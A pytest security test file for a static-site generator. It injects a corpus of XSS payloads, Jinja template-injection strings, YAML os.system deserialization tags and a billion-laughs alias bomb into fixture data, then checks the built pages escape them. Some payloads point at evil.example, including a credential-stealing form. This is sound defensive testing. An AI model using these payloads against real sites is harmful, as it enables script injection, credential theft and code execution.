"""A hostile pull request: script and markup payloads in every kind of text field.

The fixture knowledge base is filled with a corpus of XSS payloads (raw HTML, event handlers,
`javascript:` and `data:` links written as Markdown, attribute breakouts, entity tricks,
Markdown raw HTML blocks, Jinja syntax), then built into a real site. Every built HTML page is
parsed and must contain no markup the theme does not ship itself, while every payload is still
visible to the reader as text.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from generator.cli import main
from generator.model.settings import Project
from generator.pipeline.build import build_site

from .conftest import FIXTURE, REPO, WHOLE, write

PAYLOADS: list[str] = [
    "<script>alert('script-tag')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('img-onerror')>",
    "<svg onload=alert('svg-onload')>",
    "<svg><script>alert('svg-script')</script></svg>",
    "[md-js](javascript:alert('md-link'))",
    "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[md-vb](vbscript:msgbox('md-vb'))",
    "![md-img](javascript:alert('md-image'))",
    "<javascript:alert('autolink')>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<form action=\"https://evil.example/steal\"><input name=pw><button formaction=javascript:alert('form')>go</button></form>",
    "<a href=javascript:alert('a-href')>a-href</a>",
    "<a href=\"data:text/html,<script>alert('a-data')</script>\">a-data</a>",
    "\" onmouseover=\"alert('dq-breakout')",
    "' onfocus='alert(\"sq-breakout\")' autofocus='",
    "'><script>alert('sq-close')</script>",
    "\"><img src=x onerror=alert('dq-close')>",
    "</title><script>alert('title-close')</script>",
    "</textarea></style></noscript><script>alert('rawtext-close')</script>",
    "&#x3C;script&#x3E;alert('hex-entity')&#x3C;/script&#x3E;",
    "&lt;script&gt;alert('named-entity')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('dec-entity')&#62;",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<math><mi xlink:href=\"javascript:alert('mathml')\">m</mi></math>",
    "<details open ontoggle=alert('ontoggle')>d</details>",
    '<base href="https://evil.example/">',
    "<!-- <script>alert('comment')</script> -->",
    "`<script>alert('code-span')</script>`",
    "raw block:\n\n<div onclick=\"alert('html-block')\">raw html block</div>\n\nafter the block",
    "reference:\n\n[ref-link][evil]\n\n[evil]: javascript:alert('md-reference')",
    "{{ 'kb' ~ 'pwned' }}",
    "{% if false %}kb-hidden{% endif %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{# kb-jinja-comment #}",
]
"""More than 25 payloads; each text field below gets all of them at once."""

TEXT = " ".join(PAYLOADS)
"""The hostile text: what a reader must see, literally, wherever the field is shown."""


def _flat(text: str) -> str:
    return " ".join(text.split())


# --- the hostile pull request ------------------------------------------------------------


def _edit(project: Project, rel: str, change: Callable[[dict[str, Any]], None]) -> None:
    path = project.data_dir / rel
    data = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
    change(data)
    write(path, yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000))


def _text(label: str = "") -> dict[str, str]:
    return {"nb": f"{label}{TEXT}", "en": f"{label}{TEXT}"}


def _finding(d: dict[str, Any]) -> None:
    d["statement"] = _text()
    d["components"]["methodological_limitations"]["explanation"] = _text()
    for change in d.get("history", []):  # the changelog shows what changed, and the text before
        change["change"] = _text()
        if "previous" in change:
            change["previous"]["statement"] = _text()


def _study(d: dict[str, Any]) -> None:
    d["citation"] = TEXT
    d["aliases"] = ["alias " + TEXT]
    d["title"] = TEXT
    d["population"] = _text()
    d["results"][0]["text"] = _text()


def _study_beta(d: dict[str, Any]) -> None:
    d["appraisal"]["source_wording"] = TEXT


def _publication(d: dict[str, Any]) -> None:
    d["title"] = _text()
    d["short_title"] = _text()
    d["institutions"] = [_text()]
    d["commissioner"] = _text()
    km = d["key_messages"]
    km["introduction"] = [_text()]
    km["groups"][0]["heading"] = _text()
    km["groups"][0]["bullets"] = [_text(), _text()]
    km["closing"] = _text()
    d["summary"][0]["heading"] = _text()
    d["summary"][0]["paragraphs"] = [_text()]
    d["method"]["research_question"] = _text()
    d["history"][0]["change"] = _text()


def _reference(d: dict[str, Any]) -> None:
    d["text"] = TEXT
    d["title"] = TEXT
    d["series"] = TEXT
    d["authors"] = [TEXT]


def _note(d: dict[str, Any]) -> None:
    d["text"] = _text()
    d["source_location"] = TEXT


def _assessment(d: dict[str, Any]) -> None:
    d["intervention"] = _text()


def _characteristic(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["short_name"] = _text()
    d["description"] = [_text()]
    d["question"] = _text()


def _theme(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["description"] = _text()


def _matrix(d: dict[str, Any]) -> None:
    d["title"] = _text()
    d["introduction"] = _text()


# --- the kinds of the whole knowledge base (fixtures/kb-whole) --------------------------------


def _thesis(d: dict[str, Any]) -> None:
    d["authors"] = [TEXT]
    d["series"] = TEXT
    d["chapters"][0]["heading"] = _text()
    d["chapters"][0]["bullets"] = [_text()]
    d["chapters"][0]["source_location"] = TEXT
    chart = d["charts"][0]
    chart["title"] = _text()
    chart["unit"] = _text()
    chart["categories"] = [_text(), _text()]
    chart["series"][0]["name"] = _text()
    chart["note"] = _text()
    chart["source_location"] = TEXT


def _sub_theme(d: dict[str, Any]) -> None:
    d["name"] = _text()


def _result(d: dict[str, Any]) -> None:
    d["statement"] = _text()
    d["strength"] = _text()
    d["source_location"] = TEXT


def _effect_study(d: dict[str, Any]) -> None:
    d["citation"] = "delta " + TEXT
    d["control_group"] = _text()
    d["effects"][0]["text"] = _text()
    d["effects"][0]["timepoint"] = _text()


def _intervention(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["aliases"] = [TEXT]
    d["components"] = [_text()]
    d["evidence_text"] = _text()
    d["evidence_references"] = [TEXT]


def _implication(d: dict[str, Any]) -> None:
    d["heading"] = _text()
    d["text"] = _text()
    d["source_location"] = TEXT


def _case(d: dict[str, Any]) -> None:
    d["title"] = _text()
    d["place"] = TEXT
    d["paragraphs"] = [_text()]
    d["status"] = _text()


def _topic(d: dict[str, Any]) -> None:
    d["name"] = _text()
    d["description"] = _text()


def _labels(*term_ids: str, fields: tuple[str, ...] = ("label",)) -> Callable[[dict[str, Any]], None]:
    def change(d: dict[str, Any]) -> None:
        for term in d["terms"]:
            if term["id"] in term_ids:
                for name in fields:
                    term[name] = _text()

    return change


HOSTILE_EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
    "findings/demo-2025-f01.yaml": _finding,
    "findings/demo-2025-f03.yaml": _finding,
    "themes/tema-a.yaml": _theme,
    "studies/alpha-2020.yaml": _study,
    "studies/beta-2021.yaml": _study_beta,
    "publications/demo-2025.yaml": _publication,
    "references/demo-2025-r02.yaml": _reference,
    "notes/note-demo-count.yaml": _note,
    "assessments/demo-2025-tiltak-alpha-2020.yaml": _assessment,
    "characteristics/komp.yaml": _characteristic,
    "matrices/demo-2025-matrise.yaml": _matrix,
    "vocabularies/confidence.yaml": _labels("moderate", "high", fields=("label", "short", "phrase", "description")),
    "vocabularies/concern.yaml": _labels("moderate", fields=("label", "short", "phrase")),
    "vocabularies/country.yaml": _labels("usa", "nor"),
    "vocabularies/design.yaml": _labels("rct", fields=("label", "short")),
    "vocabularies/matrix-value.yaml": _labels("no", "yes"),
    "vocabularies/status.yaml": _labels("published"),
    "publications/demo-thesis-2022.yaml": _thesis,
    "themes/oppgave-under-1.yaml": _sub_theme,
    "findings/demo-thesis-2022-f02.yaml": _result,
    "studies/delta-2019.yaml": _effect_study,
    "interventions/demo-team.yaml": _intervention,
    "implications/demo-thesis-2022-i01.yaml": _implication,
    "cases/demo-case.yaml": _case,
    "topics/tidlig.yaml": _topic,
    "vocabularies/effect-direction.yaml": _labels("positive", fields=("label", "short", "description")),
    "vocabularies/audience.yaml": _labels("teachers"),
    "vocabularies/outcome.yaml": _labels("work-participation"),
    "vocabularies/sector.yaml": _labels("health"),
    "vocabularies/license.yaml": _labels("cc-by-4-0"),
}


def _copy(tmp: Path) -> Project:
    """The fixture data with the project's real theme: its mkdocs.yml, overrides/ (page chrome,
    Pagefind, PDF links) and content/assets/ (kb.js, kb.css), so the attack meets what readers get."""
    root = tmp / "kb"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("build", "site"))
    shutil.copytree(WHOLE, root, dirs_exist_ok=True)  # every kind of page, not only the review's
    shutil.rmtree(root / "overrides", ignore_errors=True)  # absent in a clean clone: git keeps no empty folders
    shutil.copytree(REPO / "overrides", root / "overrides")
    shutil.copytree(REPO / "content" / "assets", root / "content" / "assets")
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    return Project(root)


@pytest.fixture(scope="module")
def clean_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = _copy(tmp_path_factory.mktemp("clean"))
    build_site(project, with_pdf=False)
    return project.site_dir


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = _copy(tmp_path_factory.mktemp("hostile"))
    for rel, change in HOSTILE_EDITS.items():
        _edit(project, rel, change)
    build_site(project, with_pdf=False)
    return project.site_dir


def _pages(site: Path) -> dict[str, BeautifulSoup]:
    return {
        p.relative_to(site).as_posix(): BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser")
        for p in sorted(site.rglob("*.html"))
    }


@pytest.fixture(scope="module")
def clean_pages(clean_site: Path) -> dict[str, BeautifulSoup]:
    return _pages(clean_site)


@pytest.fixture(scope="module")
def hostile_pages(hostile_site: Path) -> dict[str, BeautifulSoup]:
    return _pages(hostile_site)


def _script(tag: Tag) -> tuple[str, str, str, str]:
    return (tag.get("src", ""), tag.get("type", ""), tag.get("id", ""), tag.string or "")


# --- the corpus itself -----------------------------------------------------------------


def test_the_corpus_is_big_enough_and_every_edit_is_valid_data(tmp_path: Path, capsys) -> None:
    assert len(PAYLOADS) >= 25
    project = _copy(tmp_path)
    for rel, change in HOSTILE_EDITS.items():
        _edit(project, rel, change)
    assert main(["--root", str(project.root), "check"]) == 0, capsys.readouterr().err


# --- what the theme ships ----------------------------------------------------------------


def _allowed_script(script: tuple[str, str, str, str]) -> bool:
    src, kind, ident, body = script
    if src:
        return (
            re.search(r"(^|/)(assets/javascripts/bundle\.[0-9a-f]+\.min\.js|assets/kb\.js|pagefind/pagefind-ui\.js)$", src)
            is not None
        )
    if ident == "__config":
        return kind == "application/json"
    return body.startswith(("__md_scope=new URL(", "var target=document.getElementById(location.hash.slice(1))"))


def test_a_clean_build_has_only_the_themes_scripts(clean_pages: dict[str, BeautifulSoup]) -> None:
    """What a clean build contains, and so all that is allowed: Material's bundle, its inline
    config (JSON, not code), its `__md_scope` bootstrap and anchor snippet, our assets/kb.js and
    Pagefind's UI script."""
    scripts = {_script(tag) for soup in clean_pages.values() for tag in soup.find_all("script")}
    assert sorted(s for s in scripts if not _allowed_script(s)) == []
    names = {re.sub(r"\.[0-9a-f]+\.min\.js$", ".min.js", s[0].rsplit("/", 1)[-1]) for s in scripts if s[0]}
    assert names == {"bundle.min.js", "kb.js", "pagefind-ui.js"}
    assert {s[2] for s in scripts if not s[0]} == {"__config", ""}


def test_the_hostile_site_has_the_same_pages(
    clean_pages: dict[str, BeautifulSoup], hostile_pages: dict[str, BeautifulSoup]
) -> None:
    assert sorted(hostile_pages) == sorted(clean_pages)


# --- no active markup from the data, region by region ------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset")
COUNTED_ELEMENTS = (
    "script",
    "iframe",
    "form",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "input",
    "button",
    "details",
    "math",
    "img",
    "svg",
    "a",
    "style",
    "link",
    "meta",
    "strong",
    "em",
)
"""Elements a payload could smuggle in: the hostile page must have exactly as many as the clean one."""
PAYLOAD_LINK_LABELS = {"md-js", "md-data", "md-vb", "ref-link", "a-href", "a-data", "click"}


def _in(tag: Tag, name: str) -> bool:
    return tag.name == name or tag.find_parent(name) is not None


REGIONS: dict[str, Callable[[Tag], bool]] = {
    "head": lambda t: _in(t, "head"),
    "page chrome": lambda t: not _in(t, "head") and not _in(t, "article"),
    "article": lambda t: _in(t, "article"),
}
"""The parts of a page: <head>, the theme's header/navigation/footer, and the generated article."""


def _problems(region: str, soup: BeautifulSoup, clean: BeautifulSoup) -> list[str]:
    inside = REGIONS[region]
    tags = [t for t in soup.find_all(True) if inside(t)]
    clean_tags = [t for t in clean.find_all(True) if inside(t)]
    found = []
    scripts, clean_scripts = (
        [_script(t) for t in tags if t.name == "script"],
        [_script(t) for t in clean_tags if t.name == "script"],
    )
    if scripts != clean_scripts:
        found.append(f"scripts differ from the clean build: {[s for s in scripts if s not in clean_scripts][:3]}")
    for tag in tags:
        for attr, value in tag.attrs.items():
            if attr.lower().startswith("on"):
                found.append(f"<{tag.name} {attr}>")
            if (
                attr.lower() in URL_ATTRIBUTES
                and isinstance(value, str)
                and "".join(value.split()).lower().startswith(DANGEROUS_SCHEMES)
            ):
                found.append(f"<{tag.name} {attr}={value[:40]!r}>")
        if tag.name == "a" and tag.get_text().strip() in PAYLOAD_LINK_LABELS:
            found.append(f"link made from data: <a>{tag.get_text()}</a>")
    for name in COUNTED_ELEMENTS:
        count, clean_count = sum(t.name == name for t in tags), sum(t.name == name for t in clean_tags)
        if count != clean_count:
            found.append(f"{count - clean_count:+d} <{name}>")
    return found


def _has_chart(soup: BeautifulSoup) -> bool:
    return soup.select_one("article svg.kb-chart") is not None


@pytest.mark.parametrize(
    ("region", "pages"),
    [
        # <title> and the sidebar: the generator sets an escaped `title:` in every page's front
        # matter and escapes nav titles, because the theme prints both raw.
        pytest.param("head", "all"),
        pytest.param("page chrome", "all"),
        pytest.param("article", "without a chart"),
        # the chart is a raw HTML block, so Markdown in its labels is never parsed
        pytest.param("article", "with a chart"),
    ],
)
def test_no_markup_from_the_data(
    clean_pages: dict[str, BeautifulSoup], hostile_pages: dict[str, BeautifulSoup], region: str, pages: str
) -> None:
    """No script but the theme's, no on* attribute, no javascript:/data:/vbscript: URL, no extra
    iframe/form/object/embed/base/img/... element, no link made from Markdown in the data."""
    chosen = {
        name: soup
        for name, soup in hostile_pages.items()
        if pages == "all" or _has_chart(clean_pages[name]) == (pages == "with a chart")
    }
    assert chosen
    found = {name: problems for name, soup in chosen.items() if (problems := _problems(region, soup, clean_pages[name]))}
    assert found == {}, f"{len(found)} of {len(chosen)} page(s), e.g. {next(iter(found.items()))}"


# --- payloads are shown as text ----------------------------------------------------------

VISIBLE = [
    ("findings/demo-2025-f01/index.html", "finding statement and explanation"),
    ("en/findings/demo-2025-f01/index.html", "finding statement (English)"),
    ("studies/alpha-2020/index.html", "study citation, aliases, population, result"),
    ("publications/demo-2025/index.html", "publication title and key messages"),
    ("en/publications/demo-2025/index.html", "publication title and key messages (English)"),
    ("publications/demo-2025/notes/index.html", "note text"),
    ("matrices/demo-2025-matrise/index.html", "matrix intervention, title and question"),
    ("publications/demo-2025/characteristics/index.html", "characteristic name and question"),
    ("publications/demo-2025/findings/index.html", "theme name and confidence label"),
    ("publications/demo-2025/method/index.html", "research question"),
    ("publications/demo-2025/studies/index.html", "study citation and country label"),
    ("publications/demo-2025/references/index.html", "reference list entry"),
    ("publications/demo-2025/changelog/index.html", "what changed and the text before and after"),
    ("en/publications/demo-2025/changelog/index.html", "what changed and the text before and after (English)"),
    ("en/publications/demo-2025/references/index.html", "reference list entry (English)"),
]


@pytest.mark.parametrize(("page", "why"), VISIBLE)
def test_payloads_are_visible_as_text(hostile_pages: dict[str, BeautifulSoup], page: str, why: str) -> None:
    article = hostile_pages[page].find("article")
    assert article is not None
    for chart in article.select("svg.kb-chart"):
        chart.decompose()  # the chart repeats the labels without spaces between them; the tables carry the text
    assert _flat(TEXT) in _flat(article.get_text()), why


def test_every_payload_appears_verbatim_on_the_finding_page(hostile_pages: dict[str, BeautifulSoup]) -> None:
    text = _flat(hostile_pages["findings/demo-2025-f01/index.html"].find("article").get_text())
    for payload in PAYLOADS:
        assert _flat(payload) in text, payload


def test_jinja_syntax_in_data_is_printed_not_evaluated(hostile_site: Path, hostile_pages: dict[str, BeautifulSoup]) -> None:
    for name, soup in hostile_pages.items():
        text = soup.get_text()
        assert "kbpwned" not in text, name
        assert "__globals__" not in text.replace("{{ config.__class__.__init__.__globals__ }}", ""), name
        assert "kb-hidden" not in text or "{% if false %}kb-hidden{% endif %}" in text, name
    page = _flat(hostile_pages["findings/demo-2025-f01/index.html"].find("article").get_text())
    for literal in (
        "{{ 'kb' ~ 'pwned' }}",
        "{% if false %}kb-hidden{% endif %}",
        "{# kb-jinja-comment #}",
        "{{ config.__class__.__init__.__globals__ }}",
    ):
        assert literal in page
    staged = hostile_site.parent / "build" / "docs" / "nb" / "findings" / "demo-2025-f01.md"
    assert "{{ &#39;kb&#39; ~ &#39;pwned&#39; }}" in staged.read_text(encoding="utf-8")


# --- YAML-level attacks: rejected by the loader, with a location ---------------------------

YAML_TAG_CASES = [
    pytest.param(
        "name: !!python/object/apply:os.system ['echo pwned']\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed",
        id="python-object-apply-on-a-list",
    ),
    pytest.param(
        "name: !!python/object:generator.model.models.Text {nb: A, en: A}\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag 'tag:yaml.org,2002:python/object:generator.model.models.Text' is not allowed",
        id="python-object-on-a-mapping",
    ),
    pytest.param(
        "name: {nb: !!python/name:os.system '', en: A}\n",
        "data/themes/tema-a.yaml:2:12: name.nb: cannot read value: could not determine a constructor for the tag 'tag:yaml.org,2002:python/name:os.system'",
        id="python-name-on-a-scalar",
    ),
    pytest.param(
        "name: {nb: !!python/object/new:os.system [echo], en: A}\n",
        "data/themes/tema-a.yaml:2:12: name.nb: cannot read value: the tag 'tag:yaml.org,2002:python/object/new:os.system' is not allowed",
        id="python-object-new",
    ),
    pytest.param(
        "name: !custom {nb: A, en: A}\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag '!custom' is not allowed",
        id="local-tag",
    ),
    pytest.param(
        "name: !!set {nb, en}\n",
        "data/themes/tema-a.yaml:2:7: name: cannot read value: the tag 'tag:yaml.org,2002:set' is not allowed",
        id="set-tag",
    ),
]


@pytest.mark.parametrize(("body", "expected"), YAML_TAG_CASES)
def test_python_and_unknown_tags_are_rejected_with_a_location(fixture_project: Project, capsys, body: str, expected: str) -> None:
    """CSafeLoader never builds Python objects; our builder must not pass tagged lists or mappings
    through as plain data either (it builds values from the node tree itself)."""
    write(fixture_project.data_dir / "themes" / "tema-a.yaml", "id: tema-a\n" + body)
    assert main(["--root", str(fixture_project.root), "check"]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert expected in lines
    assert [line for line in lines if "tema-a.yaml" in line and ": warning: " not in line] == [expected]


def test_alias_bomb_is_refused_quickly(fixture_project: Project, capsys) -> None:
    """'Billion laughs': nine levels of nine aliases would expand to 387 million strings."""
    lines = ["id: tema-a", "name: {nb: A, en: A}", "description:", "  a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"  a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    write(fixture_project.data_dir / "themes" / "tema-a.yaml", "\n".join(lines) + "\n")
    assert main(["--root", str(fixture_project.root), "check"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert "data/themes/tema-a.yaml:4:7: description.a1[0]: YAML aliases ('*name') are not allowed: write the value out" in err
